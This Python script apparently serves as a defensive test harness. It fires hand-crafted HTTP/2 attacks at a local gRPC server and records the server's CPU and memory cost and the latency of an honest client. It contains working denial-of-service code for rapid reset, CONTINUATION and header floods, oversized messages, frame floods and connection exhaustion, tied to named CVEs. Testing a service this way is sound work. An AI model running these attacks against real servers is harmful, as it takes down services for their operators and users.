#!/usr/bin/env python3
"""Attacks a server that runs below gRPC, with HTTP/2 frames made by hand, and measures what that costs it and others.

    http2_attacks.py PORT PID [ATTACK...]

PORT is the gRPC port on 127.0.0.1 (without TLS and tokens), PID the server's process. For each attack it prints the
processors that the server kept busy, the memory it grew by, what of that stayed, and how an honest client fared that
sends a small call every 20 ms meanwhile. Nothing is judged here: the tests of `make test` do that.
"""

from __future__ import annotations

import argparse
import functools
import multiprocessing
import os
import socket
import statistics
import struct
import sys
import threading
import time
from collections.abc import Callable

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    8,
    9,
)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
SECONDS = 8.0
INSPECT = "/bayespfl.inspection.v1.InspectionService/Inspect"
INFO = "/bayespfl.inspection.v1.InspectionService/GetServerInfo"
FRAME = 16384


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def varint(value: int, prefix: int) -> bytes:
    most = (1 << prefix) - 1
    if value < most:
        return bytes([value])
    out, value = [most], value - most
    while value >= 128:
        out.append(0x80 | (value & 0x7F))
        value >>= 7
    return bytes([*out, value])


def literal(name: str, value: str) -> bytes:
    return b"\0" + varint(len(name), 7) + name.encode() + varint(len(value), 7) + value.encode()


def block(path: str, *more: tuple[str, str]) -> bytes:
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *more,
    ]
    return b"".join(literal(name, value) for name, value in fields)


class Connection:
    """HTTP/2 with the bookkeeping that sending needs: windows, and answers that are read and dropped."""

    def __init__(self, port: int, receive_buffer: int = 0) -> None:
        self.socket = socket.socket()
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.connect(("127.0.0.1", port))
        # A server that reads no further must not hold an attack up for ever.
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 2, 0))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.rest = b""
        self.window = {0: 65535}
        self.acknowledges = True
        self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))

    def send(self, data: bytes) -> bool:
        try:
            self.socket.sendall(data)
        except OSError:
            return False
        return True

    def frames(self, wait: float) -> list[tuple[int, int, int, bytes]] | None:
        """What has come; None: the server has closed the connection."""
        self.socket.settimeout(wait)
        try:
            data = self.socket.recv(1 << 20)
        except TimeoutError:
            return []
        except OSError:
            return None
        finally:
            self.socket.settimeout(None)
        if not data:
            return None
        self.rest += data
        got = []
        while len(self.rest) >= 9:
            size = int.from_bytes(self.rest[:3], "big")
            if len(self.rest) < 9 + size:
                break
            kind, flags, stream = struct.unpack(">BBI", self.rest[3:9])
            got.append((kind, flags, stream, self.rest[9 : 9 + size]))
            self.rest = self.rest[9 + size :]
            if kind == WINDOW_UPDATE:
                self.window[stream] = self.window.get(stream, 65535) + int.from_bytes(got[-1][3], "big")
            if kind == SETTINGS and not flags & ACK and self.acknowledges:
                self.send(frame(SETTINGS, ACK, 0))
            if kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, got[-1][3]))
        return got

    def message(self, stream: int, size: int, until: float) -> int:
        """Sends bytes of a message as the windows allow, never the end of the stream; how many it took."""
        sent, header = 0, b"\0" + struct.pack(">I", size)
        self.window.setdefault(stream, 65535)
        zeros = b"x" * FRAME
        while sent < size + 5 and time.monotonic() < until:
            room = min(FRAME, self.window[0], self.window[stream], size + 5 - sent)
            if room <= 0:
                if self.frames(0.05) is None:
                    return sent
                continue
            body = (header + zeros if sent == 0 else zeros)[:room]
            if not self.send(frame(DATA, 0, stream, body)):
                return sent
            self.window[0] -= room
            self.window[stream] -= room
            sent += room
            if sent % (64 * FRAME) == 0 and self.frames(0.0001) is None:
                return sent
        return sent


def drain(connection: Connection) -> threading.Thread:
    def run() -> None:
        while connection.frames(1.0) is not None:
            pass

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    return thread


# ---- The attacks. Each says in a word what it got done. ---------------------------------------------------------------


def rapid_reset(port: int) -> str:
    """CVE-2023-44487: calls that are reset as soon as they began, so that no limit on open calls is met."""
    connection = Connection(port)
    drain(connection)
    headers, stream, until = block(INSPECT), 1, time.monotonic() + SECONDS
    while time.monotonic() < until:
        batch = b"".join(
            frame(HEADERS, END_HEADERS, s, headers) + frame(RESET, 0, s, b"\0\0\0\x08")
            for s in range(stream, stream + 400, 2)
        )
        stream += 400
        if not connection.send(batch):
            return f"closed after {stream // 2} calls"
    return f"{stream // 2} calls"


def bad_base64(port: int) -> str:
    """CVE-2023-32732: a field of the kind -bin that is no base64 costs the whole connection."""
    connection = Connection(port)
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block(INFO, ("x-bin", "a,b!"))))
    until = time.monotonic() + 2
    while time.monotonic() < until:
        got = connection.frames(0.1)
        if got is None:
            return "the connection was closed"
    return "the connection stays"


def endless_header(port: int) -> str:
    """CVE-2023-33953: a field of 1 GiB over CONTINUATION frames."""
    connection = Connection(port)
    begin = block(INSPECT) + b"\0" + varint(1, 7) + b"a" + varint(1 << 30, 7)
    connection.send(frame(HEADERS, 0, 1, begin))
    sent, until, piece = (
        0,
        time.monotonic() + SECONDS,
        frame(CONTINUATION, 0, 1, b"x" * FRAME),
    )
    while time.monotonic() < until:
        if not connection.send(piece):
            return f"closed after {sent >> 20} MiB"
        sent += FRAME
    return f"{sent >> 20} MiB"


def endless_number(port: int) -> str:
    """CVE-2023-33953: the length of a field, written with zeros without end."""
    connection = Connection(port)
    connection.send(frame(HEADERS, 0, 1, block(INSPECT) + b"\0\x7f" + b"\x80" * 5))
    sent, until, piece = (
        0,
        time.monotonic() + SECONDS,
        frame(CONTINUATION, 0, 1, b"\x80" * FRAME),
    )
    while time.monotonic() < until:
        if not connection.send(piece):
            return f"closed after {sent >> 10} KiB"
        sent += FRAME
    return f"{sent >> 20} MiB"


def endless_fields(port: int) -> str:
    """CVE-2023-33953: many small fields over CONTINUATION frames, over max_metadata_size together."""
    connection = Connection(port)
    connection.send(frame(HEADERS, 0, 1, block(INSPECT)))
    sent, until, piece = (
        0,
        time.monotonic() + SECONDS,
        frame(CONTINUATION, 0, 1, literal("a", "b" * 90) * 150),
    )
    while time.monotonic() < until:
        if not connection.send(piece):
            return f"closed after {sent >> 20} MiB"
        sent += len(piece)
    return f"{sent >> 20} MiB"


def endless_message(port: int) -> str:
    """A message that says it has 4 GiB: gRPC 1.51 looks at its limit when a message is complete."""
    connection = Connection(port)
    connection.send(frame(HEADERS, END_HEADERS, 1, block(INSPECT)))
    return f"{connection.message(1, (1 << 32) - 1, time.monotonic() + SECONDS) >> 20} MiB"


def large_messages(port: int) -> str:
    """40 connections with a message of 60 MiB each that never ends."""
    until, sent = time.monotonic() + SECONDS, [0] * 40

    def send(i: int) -> None:
        connection = Connection(port)
        connection.send(frame(HEADERS, END_HEADERS, 1, block(INSPECT)))
        sent[i] = connection.message(1, 61 << 20, until)

    threads = [threading.Thread(target=send, args=(i,)) for i in range(40)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return f"{sum(sent) >> 20} MiB"


def many_calls(port: int, acknowledges: bool = True) -> str:
    """Calls without end on one connection, none of which is ever completed."""
    connection = Connection(port)
    connection.acknowledges = acknowledges
    drain(connection)
    headers, until, stream = block(INSPECT), time.monotonic() + SECONDS, 1
    while time.monotonic() < until:
        batch = b"".join(frame(HEADERS, END_HEADERS, s, headers) for s in range(stream, stream + 200, 2))
        if not connection.send(batch):
            return f"closed after {stream // 2} calls"
        stream += 200
    return f"{stream // 2} calls"


def flood(port: int, kind: int, payload: bytes, stream: int = 0) -> str:
    connection = Connection(port)
    drain(connection)
    if stream:
        connection.send(frame(HEADERS, END_HEADERS, stream, block(INSPECT)))
    sent, until, piece = (
        0,
        time.monotonic() + SECONDS,
        frame(kind, 0, stream, payload) * 500,
    )
    while time.monotonic() < until:
        if not connection.send(piece):
            return f"closed after {sent} frames"
        sent += 500
    return f"{sent} frames"


def unread_settings(port: int) -> str:
    """CVE-2019-9515: SETTINGS whose acknowledgements are never read."""
    connection = Connection(port, receive_buffer=4096)
    connection.socket.settimeout(1.0)
    sent, until, piece = 0, time.monotonic() + SECONDS, frame(SETTINGS, 0, 0) * 500
    while time.monotonic() < until:
        try:
            connection.socket.sendall(piece)
        except TimeoutError:
            continue
        except OSError:
            return f"closed after {sent} frames"
        sent += 500
    return f"{sent} frames"


def many_connections(port: int) -> str:
    """CVE-2023-4785: more connections than the server has descriptors, all quiet."""
    taken, closed = [], 0
    for _ in range(3000):
        try:
            connection = socket.create_connection(("127.0.0.1", port), timeout=2)
        except OSError:
            break
        taken.append(connection)
    time.sleep(1)
    for connection in taken:
        connection.settimeout(0.0001)
        try:
            closed += connection.recv(1) == b""
        except TimeoutError:
            pass
        except OSError:
            closed += 1
    for connection in taken:
        connection.close()
    return f"{len(taken)} connected, {closed} of them were closed"


ATTACKS: dict[str, Callable[[int], str]] = {
    "rapid_reset": rapid_reset,
    "bad_base64": bad_base64,
    "endless_header": endless_header,
    "endless_number": endless_number,
    "endless_fields": endless_fields,
    "endless_message": endless_message,
    "large_messages": large_messages,
    "many_calls": many_calls,
    "many_calls_unacknowledged": functools.partial(many_calls, acknowledges=False),
    "pings": functools.partial(flood, kind=PING, payload=b"bayespfl"),
    "settings": functools.partial(flood, kind=SETTINGS, payload=b"\0\x04\0\0\xff\xff"),
    "unread_settings": unread_settings,
    "empty_data": functools.partial(flood, kind=DATA, payload=b"", stream=1),
    "priorities": functools.partial(flood, kind=PRIORITY, payload=b"\0\0\0\0\x10", stream=1),
    "many_connections": many_connections,
}


# ---- What it costs ----------------------------------------------------------------------------------------------------


def processor_seconds(pid: int) -> float:
    with open(f"/proc/{pid}/stat", encoding="ascii", errors="replace") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def resident(pid: int) -> int:
    with open(f"/proc/{pid}/statm", encoding="ascii") as statm:
        return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


class Honest:
    """A client that calls every 20 ms, over a connection of its own."""

    def __init__(self, port: int) -> None:
        self.port, self.times, self.failed, self.stopped = port, [], 0, False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def call(self, connection: Connection, stream: int) -> bool:
        call = frame(HEADERS, END_HEADERS, stream, block(INFO)) + frame(DATA, END_STREAM, stream, b"\0" * 5)
        if not connection.send(call):
            return False
        until = time.monotonic() + 5
        while time.monotonic() < until:
            got = connection.frames(1.0)
            if got is None:
                return False
            if any(kind == HEADERS and flags & END_STREAM and of == stream for kind, flags, of, _ in got):
                return True
        return False

    def run(self) -> None:
        connection, stream = None, 1
        while not self.stopped:
            begin = time.monotonic()
            try:
                connection = connection or Connection(self.port)
            except OSError:
                connection = None
            if connection is not None and self.call(connection, stream):
                self.times.append(time.monotonic() - begin)
                stream += 2
            else:
                self.failed += 1
                connection, stream = None, 1
            time.sleep(0.02)

    def stop(self) -> str:
        self.stopped = True
        self.thread.join()
        if not self.times:
            return f"honest: none answered, {self.failed} failed"
        times = sorted(self.times)
        return (
            f"honest: {len(times)} answered, median {statistics.median(times) * 1e3:.1f} ms, "
            f"p99 {times[int(0.99 * (len(times) - 1))] * 1e3:.1f} ms, {self.failed} failed"
        )


def measure(name: str, port: int, pid: int) -> None:
    before, cpu, begin = resident(pid), processor_seconds(pid), time.monotonic()
    peak, done = before, threading.Event()

    def watch() -> None:
        nonlocal peak
        while not done.wait(0.02):
            peak = max(peak, resident(pid))

    watcher = threading.Thread(target=watch)
    watcher.start()
    honest = Honest(port)
    with multiprocessing.Pool(1) as pool:  # a process of its own, so that the honest client is not slowed down by it
        said = pool.apply(ATTACKS[name], (port,))
    seconds = time.monotonic() - begin
    busy = (processor_seconds(pid) - cpu) / seconds
    word = honest.stop()
    time.sleep(3)
    done.set()
    watcher.join()
    mebi = 1 << 20
    print(
        f"{name}: {said} in {seconds:.0f} s; server: {busy:.2f} processors, {before / mebi:.0f} MiB, at most +{(peak - before) / mebi:.0f}, "
        f"3 s later +{(resident(pid) - before) / mebi:.0f}; {word}",
        flush=True,
    )


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("port", type=int)
    parser.add_argument("pid", type=int)
    parser.add_argument(
        "attacks",
        nargs="*",
        default=list(ATTACKS),
        choices=[*ATTACKS, []],
        metavar="ATTACK",
    )
    arguments = parser.parse_args()
    for name in arguments.attacks:
        measure(name, arguments.port, arguments.pid)
    return 0


if __name__ == "__main__":
    sys.exit(main())
